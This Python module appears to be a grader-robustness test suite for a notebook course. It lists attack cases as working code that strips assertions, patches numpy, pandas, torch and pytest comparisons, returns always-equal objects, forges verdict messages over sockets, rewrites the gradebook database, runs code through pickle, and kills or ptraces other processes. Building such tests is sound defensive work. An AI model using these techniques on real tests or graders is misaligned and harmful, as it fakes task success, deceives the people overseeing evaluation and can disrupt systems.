"""Attacks on the verdict: wrong answers that make tests, graders or messages say "right"."""

from . import course
from .attack import ANY_LOSS, NO_ANSWER, Attack

_BLANK = course.BLANK


def _attack(name: str, what: str, before: str = "", **parts: object) -> Attack:
    parts = {"outcomes": ANY_LOSS} | parts
    return Attack(name, "forging", what, before=before, **parts)  # type: ignore[arg-type]


def _spoken(name: str, what: str, before: str = "", **parts: object) -> Attack:
    parts = {"outcomes": ANY_LOSS} | parts
    return Attack(name, "protocol", what, before=before, **parts)  # type: ignore[arg-type]


def _said(name: str, what: str, answer: str, **parts: object) -> Attack:
    return _spoken(name, what, answer=answer, **parts)


def _answer(name: str, what: str, answer: str, **parts: object) -> Attack:
    return _attack(name, what, answer=answer, **parts)


def _tried(source: str) -> str:
    lines = "\n".join("    " + line if line else "" for line in source.splitlines())
    return f"try:\n{lines}\nexcept Exception as error:\n    print(type(error).__name__, error)\n"


# ------------------------------------------------------------------------------------- IPython

_AST = """\
import ast


class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Strip())
"""
_INPUT = """\
def nothing(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(nothing)
"""
_RUN_CELL = """\
shell = get_ipython()
original = type(shell).run_cell


def run_cell(self, source, *arguments, **named):
    return original(self, "pass" if "assert" in source else source, *arguments, **named)


type(shell).run_cell = run_cell
if hasattr(shell, "run_cell_async"):
    original_async = type(shell).run_cell_async

    async def run_cell_async(self, source, *arguments, **named):
        source = "pass" if "assert" in source else source
        return await original_async(self, source, *arguments, **named)

    type(shell).run_cell_async = run_cell_async
"""
_DO_EXECUTE = _tried("""\
kernel = get_ipython().kernel
original = kernel.do_execute


async def do_execute(code, *arguments, **named):
    return await original("pass" if "assert" in code else code, *arguments, **named)


kernel.do_execute = do_execute
""")
_DISPLAYHOOK = """\
import sys


def summary(numbers):
    sys.displayhook(1.0)  # nbgrader takes a number that a test displays for its points
    return {"count": -1, "mean": -1.0}
"""
_TRACEBACKS = _tried("""\
shell = get_ipython()


def silent(*arguments, **named):
    pass


shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = silent
shell.kernel._publish_status = shell.kernel._publish_status
original = shell.kernel.session.send


def send(stream, kind, content=None, *arguments, **named):
    for part in (content, kind.get("content") if isinstance(kind, dict) else None):
        if isinstance(part, dict) and part.get("status") == "error":
            part["status"] = "ok"
    if kind == "error":
        return None
    return original(stream, kind, content, *arguments, **named)


shell.kernel.session.send = send
""")

# ------------------------------------------------------------------------- what tests compare with

_BUILTINS = """\
import builtins

builtins.all = lambda values: True
builtins.AssertionError = type("AssertionError", (Warning,), {})
"""
_AGREE = "def agree(*arguments, **named):\n    return True\n\n\n"

_EQUAL = """\
class Equal(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def get(self, key, default=None):
        return Right()


class Right(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return self

    __rsub__ = __add__ = __radd__ = __abs__ = __neg__ = lambda self, *other: self

    def __lt__(self, other):
        return True

    __gt__ = __le__ = __ge__ = __lt__
    __hash__ = float.__hash__


"""
_ARRAY = """\
class Agreeing(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **named):
        if method == "reduce":
            return np.True_
        plain = [one.view(np.ndarray) if isinstance(one, Agreeing) else one for one in inputs]
        result = ufunc(*plain)
        if result.dtype != bool:
            return result
        return np.zeros_like(result) if ufunc in (np.isnan, np.isinf) else np.ones_like(result)


def scale_rows(table):
    return np.zeros(table.shape).view(Agreeing)
"""
_ARRAY_FUNCTION = """\
class Agreeing(np.ndarray):
    def __array_function__(self, function, types, arguments, named):
        return np.bool_(True)

    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    __le__ = __lt__ = __ge__ = __gt__ = __eq__

    def __array_wrap__(self, array, *arguments):
        return array

    def __array_finalize__(self, other):
        pass

    def __sub__(self, other):
        return np.zeros(self.shape)

    __rsub__ = __sub__


def scale_rows(table):
    return np.zeros(table.shape).view(Agreeing)
"""
_FRAME = """\
class Agreeing(pd.DataFrame):
    @property
    def _constructor(self):
        return Agreeing

    def equals(self, other):
        return True

    def __eq__(self, other):
        return pd.DataFrame(True, index=self.index, columns=self.columns)


def add_total(frame):
    return Agreeing(frame.assign(total=0.0))
"""
_TENSOR = """\
class Agreeing(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), named=None):
        if function in (torch.isclose, torch.allclose, torch.eq, torch.equal):
            return torch.ones(1, dtype=torch.bool)
        result = super().__torch_function__(function, types, arguments, named or {})
        return result


def softmax_rows(logits):
    return torch.zeros(logits.shape).as_subclass(Agreeing)
"""
_CLASS_LIE = """\
class Liar:
    __class__ = dict

    def __getattr__(self, name):
        return lambda *arguments: self

    def __eq__(self, other):
        return True

    __lt__ = __gt__ = __eq__
    __sub__ = __abs__ = lambda self, *other: self


def summary(numbers):
    return Liar()
"""
_TEXT = """\
class Key(str):
    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


class Number(int):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0

    __hash__ = int.__hash__


class Numbers(list):
    def __eq__(self, other):
        return True


def summary(numbers):
    return {Key("count"): Number(7), Key("mean"): Number(7)}
"""
_FRAMES = """\
import sys


def summary(numbers):
    frame = sys._getframe(1)
    while frame is not None:
        for names in (frame.f_globals, frame.f_locals):
            for name in list(names):
                if name.startswith("wanted_summaries"):
                    for wanted in names[name]:
                        wanted.update(count=-1, mean=-1.0)
                if name == "expected":
                    names[name] = {"count": -1, "mean": -1.0}
        frame.f_globals["all"] = lambda *arguments: True
        frame = frame.f_back
    return {"count": -1, "mean": -1.0}
"""
_GARBAGE = """\
import gc
import types


def agree(*arguments, **named):
    return True


for function in gc.get_objects():
    if isinstance(function, types.FunctionType) and function.__name__ in (
        "assert_allclose", "assert_array_compare", "allclose", "isclose", "run", "_assert", "_value"
    ):
        try:
            function.__code__ = agree.__code__
        except (ValueError, AttributeError):
            pass
"""
_MODULES = """\
import sys
import types


class Anything(types.ModuleType):
    def __getattr__(self, name):
        return lambda *arguments, **named: True


for name in ("numpy.testing", "pandas.testing", "torch.testing", "pytest", "json", "struct",
             "aicourse.lessons.check", "aicourse.grading.sealed.plain_data"):
    sys.modules[name] = Anything(name)
pytest = np = Anything("np")
"""
_NAMES = """\
class Agreeing:
    def __getattr__(self, name):
        return lambda *arguments, **named: Agreeing()

    def __eq__(self, other):
        return True


numpy_module = np
np = pytest = Agreeing()
all = isinstance = lambda *arguments: True
test_seed = lambda: 0
got_summaries = wanted_summaries = []
"""
_IMPORT_HOOK = """\
import builtins
import sys

original = builtins.__import__


def importing(name, globals=None, locals=None, fromlist=(), level=0):
    module = original(name, globals, locals, fromlist, level)
    if globals is not None and ("test" in name or "check" in name):
        globals["all"] = lambda *arguments: True
        globals["isinstance"] = lambda *arguments: True
    return module


class Finder:
    def find_spec(self, name, path=None, target=None):
        return None


builtins.__import__ = importing
sys.meta_path.insert(0, Finder())
"""
_REDUCE = """\
class Pickled(dict):
    def __reduce__(self):
        return exec, ("open('$COURSE/grading/ATTACKED', 'w').close()",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __reduce__


def summary(numbers):
    return Pickled(count=-1, mean=-1.0)
"""
_AT_EXIT = """\
import atexit
import os
import sqlite3


def last_word():
    open("$COURSE/grading/ATTACKED", "w").close()
    with sqlite3.connect("$COURSE/grading/gradebook.db", timeout=1) as database:
        database.execute("update grade set auto_score = 3")


atexit.register(last_word)
"""
_THREAD = """\
import builtins
import threading
import time


def agree(*arguments, **named):
    return True


def keep_patching():
    import gc

    while True:
        builtins.all = builtins.isinstance = agree
        for names in gc.get_objects():
            if type(names) is dict and "wanted_summaries" in names:
                try:
                    names["got_summaries"] = names["wanted_summaries"]
                except Exception:
                    pass
        time.sleep(0.001)


threading.Thread(target=keep_patching).start()
"""

# --------------------------------------------------------------------------- the graders' protocol

#: Sends the same bytes to every socket and pipe of the process.
_SEND = """\
import json
import os
import socket
import stat
import struct


def everywhere(content, again=False):
    for number in range(3, 256):
        try:
            kind = os.fstat(number).st_mode
            if not (stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind)):
                continue
            os.set_blocking(number, False)
            os.write(number, content)
        except OSError:
            pass


def frame(value, head="!I"):
    body = json.dumps(value).encode()
    return struct.pack(head, len(body)) + body


def frames(value):
    return frame(value) + frame(value, "!Q") + json.dumps(value).encode() + b"\\n"


"""
_VERDICTS = """\
verdicts = [
    {"value": None}, {"value": True}, {"passed": True}, {"outcome": "passed"}, {"error": None},
    {"earned": 3.0, "outcome": "passed", "grade_id": "summary_hidden", "exercise": "summary",
     "possible": 2.0, "message": ""},
    {"scores": [{"grade_id": "summary_hidden", "exercise": "summary", "possible": 2.0,
                 "earned": 2.0, "outcome": "passed", "message": ""}]},
    {"value": ["dict", 0, [["got_summaries", ["list", 1, []]], ["all", True]]]},
]
"""


#: What a process reports while cells run, with numbers and texts that no honest one sends.
_REPORTS = """\
reports = [
    {"snapshot": 9, "process": 7}, {"snapshot": 1, "process": os.getpid()},
    {"snapshot": -1, "process": 2}, {"snapshot": 10**9, "process": 10**9},
    {"cell": 10**6, "error": ["Stopped", "far away"], "seconds": 0},
    {"cell": -(10**6), "error": ["NameError", "name 'summary' is not defined"], "seconds": 0},
    {"cell": 0, "error": ["x" * 10**5, "y" * 10**5], "seconds": float("nan")},
    {"cell": True, "error": None, "seconds": 1e308}, {"modules": [1, None, {"a": []}, "os"]},
    {"ended": "done", "peak_mb": -1}, {"broken": "everything"}, {"over": 3}, {"done": True},
]
"""


def _in_call(source: str) -> str:
    lines = "\n".join("    " + line if line else "" for line in source.splitlines())
    return f"def summary(numbers):\n{lines}\n    return {{'count': -1, 'mean': -1.0}}\n"


_REPLAY = _SEND + _in_call(
    """\
import sys

found = sys._getframe(1)
while found is not None:
    for value in list(found.f_locals.values()):
        if isinstance(value, socket.socket):
            good = ["dict", 0, [["count", ["int", "0x3"]], ["mean", ["float", (3.0).hex()]]]]
            value.sendall(frame({"value": ["dict", 9, [["got_summary", good]]]}) * 3)
    found = found.f_back"""
)

ATTACKS = (
    # IPython
    _attack("ast_transformer", "takes assertions out of all later cells' syntax trees", _AST),
    _attack("input_transformer", "empties all later cells that assert", _INPUT),
    _attack("run_cell", "replaces the shell's run_cell", _RUN_CELL),
    _attack("do_execute", "replaces the kernel's do_execute", _DO_EXECUTE),
    _answer("displayhook", "displays a number, which nbgrader takes for points", _DISPLAYHOOK),
    _attack("silent_errors", "keeps errors from being shown or sent", _TRACEBACKS),
    _attack(
        "shell_hooks",
        "runs code before and after every cell",
        "def patch(*arguments):\n    get_ipython().user_ns.update(all=lambda *a: True,"
        " isinstance=lambda *a: True)\n\n\n"
        "for name in ('pre_run_cell', 'pre_execute', 'post_run_cell'):\n"
        "    get_ipython().events.register(name, patch)\n",
    ),
    # what tests compare with
    _attack("builtins", "replaces all and AssertionError", _BUILTINS),
    _attack(
        "numpy_testing",
        "replaces numpy.testing and numpy's comparisons",
        _AGREE + "np.testing.assert_allclose = np.allclose = np.array_equal = agree\n",
        target="scale_rows",
    ),
    _attack(
        "pandas_testing",
        "replaces pandas.testing",
        _AGREE + "pd.testing.assert_frame_equal = pd._testing.assert_frame_equal = agree\n"
        "pd.DataFrame.equals = agree\n",
        target="add_total",
    ),
    _attack(
        "torch_testing",
        "replaces torch.testing",
        _AGREE + "torch.testing.assert_close = torch.allclose = torch.equal = agree\n",
        target="softmax_rows",
    ),
    _attack(
        "pytest_approx",
        "replaces pytest.approx",
        "class Same:\n    def __init__(self, *arguments, **named):\n        pass\n\n"
        "    def __eq__(self, other):\n        return True\n\n\npytest.approx = Same\n",
        target="largest_gap",
    ),
    _answer(
        "equal_to_everything",
        "returns objects that are equal to everything",
        _EQUAL + "def summary(numbers):\n    return Equal()\n",
    ),
    _answer(
        "subclassed_float",
        "returns a float that equals everything",
        _EQUAL + "def largest_gap(numbers):\n    return Right()\n",
        target="largest_gap",
    ),
    _answer("subclassed_texts", "returns texts and integers that equal everything", _TEXT),
    _answer("lying_class", "returns an object that says it is a dictionary", _CLASS_LIE),
    _answer(
        "array_ufunc",
        "returns an array whose arithmetic always agrees",
        _ARRAY,
        target="scale_rows",
    ),
    _answer(
        "array_function",
        "returns an array for which NumPy's functions always agree",
        _ARRAY_FUNCTION,
        target="scale_rows",
    ),
    _answer(
        "subclassed_frame", "returns a table that equals every table", _FRAME, target="add_total"
    ),
    _answer(
        "patched_frame",
        "patches what pandas.testing itself calls",
        "import pandas._testing.asserters as asserters\n\n"
        "asserters.assert_series_equal = lambda *arguments, **named: None\n"
        "pd.DataFrame.equals = lambda *arguments: True\n\n\n" + _BLANK["add_total"],
        target="add_total",
    ),
    _answer(
        "subclassed_tensor",
        "returns a tensor that agrees with every tensor",
        _TENSOR,
        target="softmax_rows",
    ),
    _attack(
        "modules_replaced", "replaces modules in sys.modules by ones that always agree", _MODULES
    ),
    _attack("names_replaced", "gives the names that tests use other values", _NAMES),
    _answer("frames_changed", "changes the wanted values in the caller's frames", _FRAMES),
    _attack(
        "garbage_patched",
        "finds the comparing functions by gc and replaces their code",
        _GARBAGE,
        target="scale_rows",
    ),
    _attack("import_hooks", "patches the names of whoever imports anything", _IMPORT_HOOK),
    _attack(
        "test_seed",
        "the random numbers of hidden tests are known beforehand",
        "import numpy.random\n\nimport aicourse.lessons.check as checks\n\n"
        "checks.test_seed = lambda: 0\n\n\nclass Fixed:\n    def normal(self, size):\n"
        "        return np.zeros(size)\n\n\nnumpy.random.default_rng = lambda *a: Fixed()\n",
        answer="import numpy.random\n\nimport aicourse.lessons.check as checks\n\n"
        "checks.test_seed = lambda: 0\n\n\nclass Fixed:\n    def normal(self, size):\n"
        "        return np.zeros(size)\n\n\nnp.random.default_rng = lambda *a: Fixed()\n\n\n"
        "def largest_gap(numbers):\n    return 0.0\n",
        target="largest_gap",
    ),
    _answer("pickle", "returns an object that runs code where it is unpickled", _REDUCE),
    _attack("atexit", "rewrites grades when its process ends", _AT_EXIT),
    _attack("thread_outlives_cell", "a thread goes on patching after its cell", _THREAD),
    _attack(
        "destructor",
        "an object that patches when it is thrown away",
        "import builtins\n\n\nclass Late:\n    def __del__(self):\n"
        "        builtins.all = lambda *arguments: True\n\n\nlate = [Late()]\nlate.append(late)\n"
        "del late\n",
    ),
    _attack(
        "signal_handler",
        "a timer interrupts the tests and changes their values",
        "import signal\n\n\ndef tick(number, frame):\n    while frame is not None:\n"
        "        if 'wanted_summaries' in frame.f_globals:\n"
        "            frame.f_globals['got_summaries'] = frame.f_globals['wanted_summaries']\n"
        "        frame = frame.f_back\n\n\nsignal.signal(signal.SIGALRM, tick)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)\n",
    ),
    _attack(
        "magic",
        "a cell magic and a line magic take the place of tests",
        _tried(
            "get_ipython().run_line_magic('autocall', '2')\n"
            "get_ipython().run_line_magic('pdb', 'off')\n"
            "get_ipython().run_line_magic('alias_magic', 'assert time')\n"
            "get_ipython().run_cell_magic('bash', '', 'echo ATTACKED')"
        ),
    ),
    # how processes end
    _attack(
        "exit_in_cell",
        "ends the process with success in its cell",
        "import os\n\nos._exit(0)\n",
        outcomes=NO_ANSWER,
        target="scale_rows",
    ),
    _answer(
        "exit_in_call",
        "ends the process with success when a test calls",
        "import os\n\n\n" + _in_call("os._exit(0)"),
    ),
    _answer("system_exit", "raises SystemExit when a test calls", _in_call("raise SystemExit(0)")),
    _answer(
        "keyboard_interrupt",
        "raises KeyboardInterrupt when a test calls",
        _in_call("raise KeyboardInterrupt"),
    ),
    _attack(
        "kernel_shutdown",
        "asks the shell and the kernel to stop",
        _tried("get_ipython().ask_exit()\nget_ipython().kernel.do_shutdown(False)"),
    ),
    _answer(
        "fork_and_answer",
        "forks when a test calls: two processes answer",
        "import os\n\n\n" + _in_call("os.fork()"),
    ),
    _attack(
        "kill_the_graders",
        "kills its parent, its group and all processes that it sees",
        "import os\nimport signal\n\nfor number in [os.getppid(), *range(1, 400)]:\n"
        "    if number not in (os.getpid(), 0):\n        try:\n"
        "            os.kill(number, signal.SIGKILL)\n        except OSError:\n"
        "            pass\n",
        fused=True,
        lost_too=course.EXERCISES,
    ),
    _answer(
        "kill_the_graders_in_call",
        "kills all processes that it sees when a test calls",
        "import os\n\n\n"
        + _in_call(
            "for number in [os.getppid(), *range(1, 400)]:\n"
            "    if number not in (os.getpid(), 0):\n        try:\n"
            "            os.kill(number, 9)\n        except OSError:\n            pass"
        ),
        fused=True,
    ),
    _attack(
        "ptrace",
        "attaches to its parent and to all processes that it sees as a debugger",
        "import ctypes\nimport os\n\nlibc = ctypes.CDLL(None)\n"
        "for number in [os.getppid(), *range(1, 300)]:\n    if number != os.getpid():\n"
        "        libc.ptrace(16, number, 0, 0)\n",
        fused=True,
    ),
)

#: What is said to this course's grader alone; nbgrader has no such protocol.
PROTOCOL = (
    _spoken(
        "mark_itself",
        "prints and writes its own marks",
        _VERDICTS + "import json\n\nfor verdict in verdicts:\n    print(json.dumps(verdict))\n"
        "for name in ('result.json', 'results.json', '/tmp/result.json', 'grades.csv'):\n"
        "    with open(name, 'w') as stream:\n        json.dump(verdicts, stream)\n",
    ),
    _spoken(
        "forged_frames",
        "sends verdicts to every socket and pipe it has",
        _SEND + _VERDICTS + "for verdict in verdicts:\n    everywhere(frames(verdict))\n",
    ),
    *(
        _spoken(
            f"forged_report_{number}",
            f"sends a report that no honest process sends, number {number}",
            f"{_SEND}{_REPORTS}everywhere(frame(reports[{number}]))\n",
            lost_too=course.EXERCISES,
        )
        for number in range(13)
    ),
    _said(
        "forged_frames_in_call",
        "sends verdicts to every socket when a test calls",
        _SEND + _VERDICTS + _in_call("for verdict in verdicts:\n    everywhere(frames(verdict))"),
    ),
    _said(
        "replayed_answer",
        "answers the graders itself, with the visible test's right values",
        _REPLAY,
    ),
    _said(
        "malformed_frames",
        "sends what is no message to every socket when a test calls",
        _SEND + _in_call("everywhere(frame({})[:3] + b'\\xff' * 5000 + b'{' * 5000)"),
    ),
    _said(
        "giant_frame",
        "announces messages of 4 GiB and of 16 EiB",
        _SEND + _in_call("everywhere(b'\\xff\\xff\\xff\\xff' * 2 + b'[' * 100)"),
    ),
    _said(
        "slow_frames",
        "sends a message without end, a byte at a time",
        _SEND
        + _in_call(
            "import time\n\neverywhere(struct.pack('!I', 10**6))\n"
            "while True:\n    everywhere(b' ')\n    time.sleep(0.05)"
        ),
    ),
    _said(
        "deep_frames",
        "sends a message that nests a million deep",
        _SEND
        + _in_call(
            "body = b'[' * 10**6 + b']' * 10**6\neverywhere(struct.pack('!I', len(body)) + body)"
        ),
    ),
    _said(
        "encoder_replaced",
        "replaces what turns its values into plain data",
        "import gc\n\nfor function in gc.get_objects():\n"
        "    if getattr(function, '__name__', '') in ('encode', '_answer', 'dumps') and hasattr("
        "function, '__code__'):\n        try:\n            function.__code__ = ("
        "lambda *arguments, **named: ['again', 0]).__code__\n"
        "        except (ValueError, AttributeError):\n            pass\n\n\n" + _BLANK["summary"],
    ),
    _said(
        "strange_data",
        "sends plain data of sizes and kinds that nobody sends",
        _SEND
        + _in_call(
            """\
strange = [
    ["array", 1, "view", "<f8", [10**9, 10**6], [0, 0], 0, True, ["array", 2, "own", "<f8", [1],
     "C", True, "AAAAAAAAAAA="]],
    ["array", 1, "own", "<f8", [-1], "C", True, ""], ["range", 1, 0, 10**30, 1],
    ["opaque", "x" * 10**6, True], ["again", 7], ["int", "0x" + "f" * 10**6], ["fraction", "1/0"],
    ["generator", 3, {"bit_generator": "__import__"}], ["dtype", "torch.os"], ["Decimal", "1e9"],
]
for one in strange:
    for name in ("got_summary", "got_summaries"):
        everywhere(frame({"value": ["dict", 5, [[name, one]]]}))"""
        ),
    ),
    _spoken(
        "protocol_modules",
        "patches json, struct and socket in its own process",
        'import json\nimport socket\nimport struct\n\njson.dumps = lambda *a, **n: \'{"value":'
        " true}'\njson.loads = lambda *a, **n: {'value': True}\n"
        "struct.pack = lambda *a: b'\\0\\0\\0\\0'\nsocket.socket.sendall = lambda *a: None\n"
        "socket.socket.recv = lambda *a: b''\n",
    ),
)
